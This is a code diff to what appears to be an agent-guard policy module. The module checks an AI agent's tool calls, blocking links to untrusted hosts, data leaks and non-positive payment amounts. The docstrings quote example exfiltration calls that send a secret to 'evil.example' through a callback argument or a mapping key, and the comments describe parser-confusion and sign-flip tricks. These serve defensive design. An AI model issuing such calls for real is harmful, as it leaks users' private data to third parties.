@@ -31,7 +31,11 @@ labels it by *every* source it could have come from, and decides fail closed:
   spelled-out dots; file names excepted: values of ``file`` roles such as ``q3.md`` unless they name a network
   location, and file names a trusted listing gave) is a *fetch* of that link, and the link must be the user's
   or trusted like any fetched URL (``get_status(callback="https://evil.example/?k=<secret>")`` is a fetch
-  of a third-party address, not a free read);
+  of a third-party address, not a free read); links are read as a client reads them (WHATWG, userinfo,
+  numeric IPs, IDN) and argument keys and booleans are values;
+- a read of a service that is not the user's own store (undeclared, or inferred and neither a store nor a
+  listing) carries no private value and no 4+-digit code of a tool result the request did not write;
+- an amount is positive (``0 - 45.5`` is a computation, not a payment);
 - outgoing content (bodies, subjects, titles, posts): every link in it (any public suffix, IP literals,
   spelled-out dots: :mod:`agentguard.policies.links`) must be the user's or from a trusted URL source; a
   private value of the user (passport, card, ...; any field of an undeclared tool's record) needs a grant
@@ -51,8 +55,8 @@ from dataclasses import dataclass, field
 from typing import Any, Iterator, Mapping
 
 from .capabilities import Grant, GrantLexicon, mint, strip_quotes
-from .links import links, local_path
-from .provenance import _EMAIL, _IBAN, canonical, dates, entities, word_form
+from .links import Link, links, local_path
+from .provenance import _EMAIL, _IBAN, _arg_leaves, _leaves, _records, canonical, dates, entities, word_form
 from .toolset import ToolDecl, ToolSet
 
 __all__ = ["Facts", "FlowLedger", "SHINGLE", "times"]
@@ -73,47 +77,6 @@ def times(text: str) -> set[str]:
         elif int(h24) < 24 and int(m24) < 60:
             out.add(f"{int(h24):02d}:{m24}")
     return out
-
-
-def _leaves(value: Any) -> Iterator[str]:
-    """Every scalar of an argument or result, as a string (mapping keys are not values)."""
-    if hasattr(value, "model_dump"):
-        value = value.model_dump()
-    if isinstance(value, Mapping):
-        for v in value.values():
-            yield from _leaves(v)
-    elif isinstance(value, (list, tuple, set, frozenset)):
-        for v in value:
-            yield from _leaves(v)
-    elif value is not None and not isinstance(value, bool):
-        yield str(value)
-
-
-def _arg_leaves(value: Any) -> Iterator[str]:
-    """Every scalar of a call's argument, mapping keys included: the receiving system reads a key it is sent
-    (``options={"https://evil.example/?k=<secret>": 1}`` carries the link)."""
-    if hasattr(value, "model_dump"):
-        value = value.model_dump()
-    if isinstance(value, Mapping):
-        for k, v in value.items():
-            yield from _arg_leaves(k)
-            yield from _arg_leaves(v)
-    elif isinstance(value, (list, tuple, set, frozenset)):
-        for v in value:
-            yield from _arg_leaves(v)
-    elif value is not None and not isinstance(value, bool):
-        yield str(value)
-
-
-def _records(result: Any) -> Iterator[dict[str, Any]]:
-    """The records of a result: each mapping (or model) in it, with its direct fields."""
-    if hasattr(result, "model_dump"):
-        result = result.model_dump()
-    if isinstance(result, Mapping):
-        yield dict(result)
-    elif isinstance(result, (list, tuple)):
-        for r in result:
-            yield from _records(r)
 
 
 def _shingles(words: list[str]) -> set[tuple[str, ...]]:
@@ -307,6 +270,22 @@ class FlowLedger:
             return 0, f"{role} {value!r}: in {src} but also written in third-party content (fail closed)"
         return 1, src
 
+    def link_target(self, lk: Link, fetch: bool = False) -> tuple[int, str]:
+        """:meth:`target` of a link as the parser read it: its form is never parsed again (the form
+        ``evil/?r=<the user's site>`` of ``https://evil/?r=...`` would read back as the user's site)."""
+        if lk.site in self._user_sites:
+            return 2, "named in the request"
+        c = ("url", lk.form)
+        if c in self._resolved:
+            return 2, self._resolved[c]
+        if fetch and lk.form in self._pointed:
+            return 1, self._pointed[lk.form]
+        if (src := self._trusted.get("url", {}).get(c)) is None:
+            return 0, f"url {lk.form!r} (host {lk.host}): not the request's nor a trusted url source"
+        if "url" in self.toolset.roles["ids"] and self._id_in_third_party(lk.form):
+            return 0, f"url {lk.form!r}: in {src} but also written in third-party content (fail closed)"
+        return 1, src
+
     def _derived(self) -> set[float]:
         if "derived" in self._cache:
             return self._cache["derived"]
@@ -341,6 +320,8 @@ class FlowLedger:
         if kind != "number":
             return 0, f"amount {value!r} is not a number"
         x = float(form)
+        if x <= 0:   # a computation (0 - 45.5) or a sign flips who pays: no payment is zero or negative
+            return 0, f"amount {value!r} is not positive"
         if x in self._user_numbers:
             return 2, "written in the request"
         if round(x, 2) in self._derived():
@@ -366,7 +347,7 @@ class FlowLedger:
         for lk in links(value):
             if lk.site in self._user_sites:
                 continue
-            if canonical(lk.form) in self._trusted.get("url", {}):
+            if ("url", lk.form) in self._trusted.get("url", {}):   # the form as parsed, not parsed again
                 continue
             return 0, f"link {lk.form!r} in outgoing content is not the user's (site {lk.site})"
         wf = f" {word_form(value)} "
@@ -415,7 +396,7 @@ class FlowLedger:
                                                              for r in _FILE_ROLES):
                     continue   # a file name a trusted listing gave (``app.py`` from list_files)
                 for lk in links(s):
-                    lv, w = self.target(lk.form, "url", True)
+                    lv, w = self.link_target(lk, True)
                     if worst is None or lv < worst[0]:
                         worst = (lv, f"{arg}: a read carrying a link is a fetch: {w}")
         return worst
@@ -444,8 +425,8 @@ class FlowLedger:
         kind = _KIND_CODE[decl.kind]
         if decl.kind == "read":
             carried = self._read_links(decl, arguments)
-            if carried is None and (carried := self._remote_leak(decl, arguments)) is not None:
-                return Facts(_KIND_CODE["fetch"], 0, True, 2, "", carried)
+            if carried is None and (leak := self._remote_leak(decl, arguments)) is not None:
+                return Facts(_KIND_CODE["fetch"], 0, True, 2, "", leak)
             if carried is None:
                 return Facts(kind, 2, True, 2, "", "a read")
             return Facts(_KIND_CODE["fetch"], carried[0], True, 2, "", carried[1])
@@ -478,7 +459,7 @@ class FlowLedger:
                         vt, why_v = lv, f"{arg}: {w}"
                 if role not in roles["targets"] and role != "url":
                     for lk in links(s):   # an address written inside a non-content argument is a target too
-                        lv, w = self.target(lk.form, "url", decl.kind == "fetch")
+                        lv, w = self.link_target(lk, decl.kind == "fetch")
                         failed |= {"url"} if lv == 0 else set()
                         if lv < tt:
                             tt, why_t = lv, f"{arg}: {w}"
